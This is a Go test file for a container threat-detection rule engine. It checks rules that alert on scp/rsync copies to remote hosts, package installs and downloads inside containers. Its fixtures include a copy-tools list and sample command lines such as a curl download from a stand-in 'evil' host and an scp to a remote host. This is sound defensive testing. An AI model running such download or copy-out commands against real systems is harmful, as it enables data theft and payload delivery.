package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/tsboot/tsboot/watch/event"
)

// law is the example of the contract.
const law = `name: Docker Rule Set
lists: {copy-tools: [scp, sftp, rsync]}
rules:
  - id: docker-remote-copy-out
    name: Data copied out of a container
    severity: 1
    technique: T1048
    when: has(container.id) && process.name in lists["copy-tools"] && process.args.exists(a, a.contains(":"))
    message: '{{process.name}} in {{container.name}} ({{container.image.name}}) copies to a remote host'
    dedup: 60s
    suppress: [ 'container.image.name == "backup"' ]
    tests:
      - {match: true,  event: {process: {name: scp, args: [scp, x, 'u@h:']}, container: {id: aa}}}
      - {match: false, event: {process: {name: scp, args: [scp, x, 'u@h:']}}}
`

func TestAlert(t *testing.T) {
	t.Parallel()
	rules := load(t, law, DockerRuleSet)
	e := scp(nginx())
	alerts := rules.Judge(e)
	if len(alerts) != 1 {
		t.Fatalf("%d alerts", len(alerts))
	}
	a := alerts[0]
	if a.Event.Kind != "alert" || a.Event.Severity != 1 || a.Threat.Technique.ID[0] != "T1048" || a.Process.PID != 32105 || a.Container.ID != e.Container.ID {
		t.Errorf("alert %+v", a)
	}
	if want := (event.Rule{ID: "docker-remote-copy-out", Name: "Data copied out of a container", Ruleset: DockerRuleSet}); *a.Rule != want {
		t.Errorf("rule %+v", a.Rule)
	}
	if want := "scp in some-nginx (nginx) copies to a remote host"; a.Message != want {
		t.Errorf("message %q, want %q", a.Message, want)
	}
	if e.Event.Kind != "event" || e.Message != "" || e.Rule != nil {
		t.Errorf("the event was changed: %+v", e)
	}
	backup := scp(&event.Container{ID: "bb", Image: &event.Image{Name: "backup"}})
	if alerts := rules.Judge(backup); len(alerts) != 0 {
		t.Errorf("a suppressed alert: %+v", alerts[0])
	}
}

// TestStories are those of the seed, by the built-in sets.
func TestStories(t *testing.T) {
	t.Parallel()
	rules, err := Load(Options{Sets: []string{BaseRuleSet, " " + DockerRuleSet}})
	if err != nil {
		t.Fatal(err)
	}
	story := func(name string, args ...string) *event.Event {
		e := scp(nginx())
		e.Process.Name, e.Process.Executable, e.Process.Args, e.Process.CommandLine = name, "/usr/bin/"+name, args, strings.Join(args, " ")
		return e
	}
	for _, c := range []struct {
		e        *event.Event
		rule     string
		severity int
		message  string
	}{
		{story("apt", "apt", "install", "curl"), "docker-package-manager", 2, "apt manages packages (apt install curl): in container some-nginx (image nginx:1.27), pid 32105 (pid 8 in the container)"},
		{story("curl", "curl", "-O", "http://evil.example.cn/x"), "docker-download", 2, "curl downloads (curl -O http://evil.example.cn/x): in container some-nginx (image nginx:1.27), pid 32105 (pid 8 in the container)"},
		{scp(nginx()), "docker-remote-copy-out", 1, "scp copies to a remote host (scp x u@h:.): in container some-nginx (image nginx:1.27), pid 32105 (pid 8 in the container)"},
		{scp(nil), "base-remote-copy-out", 3, "scp copies to or from another machine: on host ip-10-0-0-7, pid 32105"},
	} {
		alerts := rules.Judge(c.e)
		if len(alerts) != 1 {
			t.Fatalf("%s: %d alerts", c.rule, len(alerts))
		}
		a := alerts[0]
		if a.Rule.ID != c.rule || a.Event.Severity != c.severity || a.Message != c.message || (a.Container == nil) != (c.e.Container == nil) {
			t.Errorf("%s, severity %d, %q", a.Rule.ID, a.Event.Severity, a.Message)
		}
	}
	if failed := rules.Failed(); len(failed) > 0 {
		t.Errorf("failed: %v", failed)
	}
}

// TestAbsent: a field that an event does not have is empty text, 0 or an empty list, and never a failure.
func TestAbsent(t *testing.T) {
	t.Parallel()
	for when, want := range map[string]bool{
		`process.name in lists["words"]`:                           false,
		`process.name in lists.words`:                              false,
		`!(process.name in lists["words"])`:                        true,
		`process.name == "scp"`:                                    false,
		`process.parent.pid == 0`:                                  true,
		`container.image.hash.all.exists(h, h == "x")`:             false,
		`process.args.all(a, a == "x")`:                            true,
		`process.args == []`:                                       true,
		`"x" in tags`:                                              false,
		`aws.ecs.task.arn.startsWith("arn:")`:                      false,
		`orchestrator.resource.name == ""`:                         true,
		`tswatch.lost.records > 0`:                                 false,
		`tswatch.lossy`:                                            false,
		`event.severity == 0`:                                      true,
		`has(process.name)`:                                        false,
		`has(process.parent)`:                                      false,
		`has(process.parent.pid)`:                                  false,
		`has(container.id) || has(container.image.name)`:           false,
		`has(process.args) || has(container.image.hash.all)`:       false,
		`has(user.audit.id) || has(file.path)`:                     false,
		`has(destination.port) || has(network.type)`:               false,
		`timestamp < timestamp("2030-01-01T00:00:00Z")`:            true,
		`process == process && process.parent == process.parent`:   true,
		`container == null && process == null && !(user != null)`:  true,
		`type(process) == type(process)`:                           true,
		`isIP(destination.ip)`:                                     false,
		`process.command_line.lowerAscii().contains("a")`:          false,
		`has(event.action)`:                                        false,
		`event.action in ["", "executed"] && !has(container.name)`: true,
	} {
		t.Run(when, func(t *testing.T) {
			t.Parallel()
			rules := condition(t, when)
			if got := len(rules.Judge(&event.Event{})) == 1; got != want {
				t.Errorf("%s is %v, want %v", when, got, want)
			}
			if failed := rules.Failed(); len(failed) > 0 {
				t.Errorf("failed: %v", failed)
			}
		})
	}
}

// TestPresent reads every kind of field.
func TestPresent(t *testing.T) {
	t.Parallel()
	e := scp(nginx())
	e.Timestamp = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	e.Event.Sequence, e.Tswatch.Lossy, e.Tags = 4294967295, true, []string{"tswatch", "x"}
	e.User = &event.User{ID: "0", Audit: &event.ID{ID: "1000"}}
	e.Destination = &event.Destination{IP: "10.1.2.3", Port: 443}
	e.Tswatch.Attribution = &event.Attribution{Method: "cgroup", LatencyUS: 180}
	for _, when := range []string{
		`process.name in lists["words"] && has(container.id) && container.image.tag[0] == "1.27"`,
		`event.sequence == 4294967295 && tswatch.lossy && "x" in tags && size(tags) == 2`,
		`timestamp == timestamp("2026-01-02T03:04:05Z") && timestamp.getFullYear() == 2026`,
		`container != null && process != null && file == null && user.audit != null && user.effective == null`,
		`user.id == "0" && user.audit.id == "1000" && !has(user.effective.id)`,
		`cidr("10.0.0.0/8").containsIP(destination.ip) && destination.port in [80, 443]`,
		`tswatch.attribution.method == "cgroup" && tswatch.attribution.latency_us < 1000`,
		`process.args.exists(a, a.matches("^u@")) && process.args.filter(a, a.size() > 1).size() == 2`,
		`process.args.join(" ") == process.command_line && process.executable.endsWith("/" + process.name)`,
		`host.hostname.split("-")[0] == "ip" && process.pid != process.vpid`,
		"event.action == 'executed' &&\n  event.outcome == 'success' // as audit says",
	} {
		rules := condition(t, when)
		if len(rules.Judge(e)) != 1 || len(rules.Failed()) > 0 {
			t.Errorf("%s does not match; failed: %v", when, rules.Failed())
		}
	}
}

// TestFailed: a rule that fails is counted, is no alert, and the next one judges.
func TestFailed(t *testing.T) {
	t.Parallel()
	rules := load(t, `name: Own
rules:
- {id: fails, name: A, severity: 1, when: 'process.args[9] == "x"'}
- {id: divides, name: B, severity: 1, when: '1 / process.vpid == 1 || true'}
- {id: holds, name: C, severity: 1, when: 'process.name == "scp"', suppress: ['int(user.id) == 0']}
`, "Own")
	e := scp(nil)
	e.Process.VPID = 0
	for range 3 {
		alerts := rules.Judge(e)
		if len(alerts) != 2 || alerts[0].Rule.ID != "divides" || alerts[1].Rule.ID != "holds" {
			t.Fatalf("%d alerts", len(alerts))
		}
	}
	if failed := rules.Failed(); failed["fails"] != 3 || failed["holds"] != 3 || len(failed) != 2 {
		t.Errorf("failed: %v", failed)
	}
}

// TestLarge: events larger than costs are estimated for are judged with a count of what is done, to an end.
func TestLarge(t *testing.T) {
	t.Parallel()
	rules := load(t, `name: Own
rules:
- {id: cheap, name: A, severity: 1, when: 'process.args.exists(a, a == "needle")'}
- {id: dear, name: B, severity: 1, when: 'process.args.exists(a, process.args.exists(b, a.size() > b.size() + 99))'}
`, "Own")
	e := scp(nil)
	for range 100_000 {
		e.Process.Args = append(e.Process.Args, "argument")
	}
	e.Process.Args = append(e.Process.Args, "needle")
	start := time.Now()
	alerts := rules.Judge(e)
	if len(alerts) != 1 || alerts[0].Rule.ID != "cheap" {
		t.Errorf("%d alerts", len(alerts))
	}
	if failed := rules.Failed(); failed["dear"] != 1 || len(failed) != 1 {
		t.Errorf("failed: %v", failed)
	}
	if took := time.Since(start); took > 20*time.Second {
		t.Errorf("it took %v", took)
	}
}

// TestSets: which rules judge.
func TestSets(t *testing.T) {
	t.Parallel()
	ids := func(r *Rules) string {
		var all []string
		for _, rule := range r.rules {
			if !strings.HasPrefix(rule.id, "base-") && !strings.HasPrefix(rule.id, "docker-") || rule.at.Line == 3 {
				all = append(all, rule.id)
			}
		}
		return strings.Join(all, " ")
	}
	own := func(set, id string) string {
		return "name: " + set + "\nrules:\n- {id: " + id + ", name: R, severity: 1, when: 'process.name in lists[\"copy-tools\"]'}\n"
	}
	files := map[string]string{
		"a.yaml": own(DockerRuleSet, "extra"),
		"b.yaml": strings.Replace(own("Mine", "docker-drift"), `lists["copy-tools"]`, `["x"]`, 1),
	}
	builtin, err := Load(Options{Sets: []string{DockerRuleSet}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		sets  []string
		want  string
		rules int
	}{
		{nil, "", 0},
		{[]string{DockerRuleSet, "Mine"}, "docker-drift extra", len(builtin.rules) + 1},
		{[]string{"Mine"}, "docker-drift", 1},
	} {
		rules, err := Load(Options{Sets: c.sets, Dirs: []string{write(t, files)}})
		if err != nil {
			t.Fatal(err)
		}
		if got := ids(rules); got != c.want || len(rules.rules) != c.rules {
			t.Errorf("%v: %q of %d rules, want %q of %d", c.sets, got, len(rules.rules), c.want, c.rules)
		}
	}
	// A list of one's own stands in the place of the built-in one.
	replaced, err := Load(Options{Sets: []string{DockerRuleSet}, Dirs: []string{write(t, map[string]string{
		"a.yaml": "name: Docker Rule Set\nlists: {downloaders: [fetchit]}\n",
	})}})
	if err != nil {
		t.Fatal(err)
	}
	e := scp(nginx())
	e.Process.Name, e.Process.Args = "curl", []string{"curl", "http://x.example/"}
	if alerts := replaced.Judge(e); len(alerts) != 0 {
		t.Errorf("%s", alerts[0].Rule.ID)
	}
	if e.Process.Name = "fetchit"; len(replaced.Judge(e)) != 1 {
		t.Error("the own list does not hold")
	}
}
